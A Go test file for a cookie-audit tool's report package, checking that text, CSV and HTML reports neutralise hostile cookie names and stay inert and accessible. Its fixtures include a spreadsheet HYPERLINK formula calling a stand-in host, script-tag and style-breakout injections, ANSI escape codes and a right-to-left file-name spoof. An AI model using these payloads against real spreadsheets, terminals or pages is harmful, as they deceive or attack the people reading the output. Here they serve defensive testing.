package report_test

import (
	"encoding/csv"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"cookieaudit/report"
)

// hostile are names in the shop observation that aim at the reader.
var hostile = []string{
	`=HYPERLINK("http://evil.test/?x","win")`,
	`<script>alert('name')</script>`,
	"\x1b[31mred\x1b[0m",
	"invoice\u202efdp.exe",
	"two\nlines",
}

// acts reports characters that must not reach a terminal, save the line breaks
// of the report itself.
func acts(r rune) bool { return r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf) }

func TestNothingActs(t *testing.T) {
	for _, c := range cases {
		a := judge(t, c.name, c.policy)
		for _, f := range printed() {
			got := render(t, f, a, options)
			if i := strings.IndexFunc(got, acts); i >= 0 {
				t.Errorf("%s as %s holds a character that acts: %q", c.name, f.Name, got[max(0, i-20):min(len(got), i+20)])
			}
		}
	}
}

func TestColorOnlyOnRequest(t *testing.T) {
	a := judge(t, "shop", "example-shop.yaml")
	o := options
	o.Color = true
	got := render(t, lookup(t, "text"), a, o)
	if !strings.Contains(got, "\x1b[") {
		t.Error("no colour though it was asked for")
	}
	plain := got
	for _, code := range []string{"0", "1", "2", "33", "36", "1;31", "1;97;41"} {
		plain = strings.ReplaceAll(plain, "\x1b["+code+"m", "")
	}
	if plain != render(t, lookup(t, "text"), a, options) {
		t.Error("colour changes more than the colour")
	}
}

func TestLegible(t *testing.T) {
	for in, want := range map[string]string{
		"_ga":             "_ga",
		"größe 价格":        "größe 价格",
		"\x1b[2J":         `\u001b[2J`,
		"a\u202eb":        `a\u202eb`,
		"a\u200bb":        `a\u200bb`,
		"a\nb\tc":         "a b c",
		"a\rb":            `a\u000db`,
		"\u009b31m":       `\u009b31m`,
		"bad\xffutf":      `bad\xffutf`,
		"tag\U000e0041":   `tag\U000e0041`,
		"\u2066x\u2069":   `\u2066x\u2069`,
		"line\u2028break": `line\u2028break`,
	} {
		if got := report.Legible(in); got != want {
			t.Errorf("Legible(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestTablesCarryNoFormula(t *testing.T) {
	a := judge(t, "shop", "example-shop.yaml")
	for _, name := range []string{"inventory", "findings"} {
		rows, err := csv.NewReader(strings.NewReader(render(t, lookup(t, name), a, options))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: a spreadsheet would compute %q", name, cell)
				}
			}
		}
	}
	if !strings.Contains(render(t, lookup(t, "inventory"), a, options), `"'=HYPERLINK(""http`) {
		t.Error("the guarded name is not in the inventory")
	}
}

// The headers are a contract with spreadsheets and scripts.
func TestTableHeaders(t *testing.T) {
	a := judge(t, "quiet", "example-quiet.yaml")
	for name, want := range map[string]string{
		"inventory": "choice,phase,kind,name,host,path,partition,party,setter_party,persistence,lifetime_seconds,http_only,secure,same_site," +
			"present_at_end,deleted,declared,category,vendor,set_how,set_by,first_page,first_seen_ms,writes",
		"findings": "rule,severity,certainty,choice,phase,kind,name,host,page,message,fix",
	} {
		got, _, _ := strings.Cut(render(t, lookup(t, name), a, options), "\n")
		if !strings.HasPrefix(got, want) {
			t.Errorf("%s begins with\n%s, want\n%s", name, got, want)
		}
	}
}

func TestHTMLIsInert(t *testing.T) {
	for _, c := range cases {
		o := options
		o.Banner = `"} </style><script>alert(1)</script> \`
		got := render(t, lookup(t, "html"), judge(t, c.name, c.policy), o)
		doc, err := html.Parse(strings.NewReader(got))
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(strings.ToLower(got), "<script") {
			t.Errorf("%s: holds a script", c.name)
		}
		if strings.Count(got, "</style>") != 1 {
			t.Errorf("%s: something closes the style sheet early", c.name)
		}
		if css, _, _ := strings.Cut(got, "</style>"); strings.Contains(css, "url(") || strings.Contains(css, "@import") {
			t.Errorf("%s: the style sheet fetches", c.name)
		}
		for n := range doc.Descendants() {
			inert(t, n)
		}
	}
}

// inert fails for an element that runs or fetches something.
func inert(t *testing.T, n *html.Node) {
	t.Helper()
	if n.Type != html.ElementNode {
		return
	}
	if slices.Contains([]string{"script", "iframe", "object", "embed", "link", "base", "form", "svg", "video", "audio"}, n.Data) {
		t.Errorf("holds <%s>", n.Data)
	}
	for _, a := range n.Attr {
		// A picture is held by the report itself.
		if n.Data == "img" && a.Key == "src" && strings.HasPrefix(a.Val, "data:image/png;base64,") {
			continue
		}
		if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "srcset" || a.Key == "style" {
			t.Errorf("<%s> has %s", n.Data, a.Key)
		}
		if u, err := url.Parse(a.Val); a.Key == "href" && (err != nil || u.Scheme != "" || u.Host != "" || u.Fragment == "") {
			t.Errorf("<%s> leads out to %s", n.Data, a.Val)
		}
	}
}

// Whoever hears the report must get what others see: a language, headings in
// order, headers in tables, anchors that exist.
func TestHTMLIsAccessible(t *testing.T) {
	for _, c := range cases {
		doc, err := html.Parse(strings.NewReader(render(t, lookup(t, "html"), judge(t, c.name, c.policy), options)))
		if err != nil {
			t.Fatal(err)
		}
		level := 0
		ids, wanted := map[string]bool{}, []string{}
		for n := range doc.Descendants() {
			if n.Type != html.ElementNode {
				continue
			}
			if n.Data == "html" && attr(n, "lang") == "" {
				t.Error("no language")
			}
			if id := attr(n, "id"); id != "" {
				if ids[id] {
					t.Errorf("two elements have the id %s", id)
				}
				ids[id] = true
			}
			if h := attr(n, "href"); h != "" {
				wanted = append(wanted, strings.TrimPrefix(h, "#"))
			}
			if id := attr(n, "aria-labelledby"); id != "" {
				wanted = append(wanted, id)
			}
			if len(n.Data) == 2 && n.Data[0] == 'h' && n.Data[1] >= '1' && n.Data[1] <= '6' {
				if now := int(n.Data[1] - '0'); now > level+1 {
					t.Errorf("%s: a heading jumps from h%d to h%d", c.name, level, now)
				}
				level = int(n.Data[1] - '0')
			}
			if n.Data == "th" && attr(n, "scope") == "" {
				t.Error("a table header without scope")
			}
		}
		for _, id := range wanted {
			if !ids[id] {
				t.Errorf("%s: nothing has the id %s", c.name, id)
			}
		}
	}
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}
